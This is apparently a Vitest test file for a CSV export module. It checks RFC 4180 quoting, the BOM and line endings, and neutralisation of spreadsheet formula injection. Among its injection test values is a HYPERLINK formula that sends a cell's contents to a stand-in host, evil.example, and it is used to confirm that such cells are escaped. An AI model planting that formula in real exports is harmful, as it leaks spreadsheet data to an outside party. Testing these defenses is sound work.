/** The CSV writer, read back by an independent RFC 4180 parser (csv-parse), as a spreadsheet would. */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, toCsv } from '../../../../src/main/exports/csv.js';

const readBack = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false });

describe('CSV cells (RFC 4180)', () => {
  it('quotes a cell only when it holds a comma, a quote, CR or LF, doubling its quotes', () => {
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvCell('')).toBe('');
  });

  it('starts with a BOM, ends every record in CRLF, and reads back cell for cell', () => {
    const rows = [
      ['Données, été', 'say "hi"'],
      ['日本語のキー 🔑', 'line one\nline two'],
      ['', 'trailing space '],
    ];
    const csv = toCsv(['Name', 'Note'], rows);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toBe('Name,Note');
    expect(readBack(csv)).toEqual([['Name', 'Note'], ...rows]);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('refuses a row whose cell count differs from the header', () => {
    expect(() => toCsv(['a', 'b'], [['only one']])).toThrow('1 cells for 2 columns');
  });

  it('any text survives the round trip (formula-looking text gets its leading apostrophe)', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary-ascii' })), { maxLength: 20 }), (pairs) => {
        const rows = pairs.map(([a, b]) => [a, b]);
        const back = readBack(toCsv(['A', 'B'], rows)).slice(1);
        const expected = rows.map((row) => row.map((cell) => (/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell) ? `'${cell}` : cell)));
        expect(back).toEqual(expected);
      }),
    );
  });
});

describe('formula injection', () => {
  const leads: [string, string][] = [
    ['=', '=HYPERLINK("https://evil.example/?"&A1,"Open")'],
    ['+', '+1'],
    ['-', '-2+3'],
    ['@', '@SUM(1,2)'],
    ['tab', '\t=1+1'],
    ['CR', '\r=1+1'],
    ['full-width =', '\uff1d1+1'],
    ['full-width +', '\uff0b1'],
    ['full-width -', '\uff0d1'],
    ['full-width @', '\uff20SUM(1)'],
  ];

  it.each(leads)('a cell starting with %s is written as text (a leading apostrophe)', (_lead, value) => {
    const back = readBack(toCsv(['Name'], [[value]]));
    expect(back[1]).toEqual([`'${value}`]);
  });

  it('leaves cells that merely contain those characters alone', () => {
    for (const value of ['a=b', 'x+1', 'rkr_key_…AB12', 'ops@example.com', '2026-11-30 21:41:07', ' =1+1']) {
      expect(readBack(toCsv(['Name'], [[value]]))[1]).toEqual([value]);
    }
  });
});
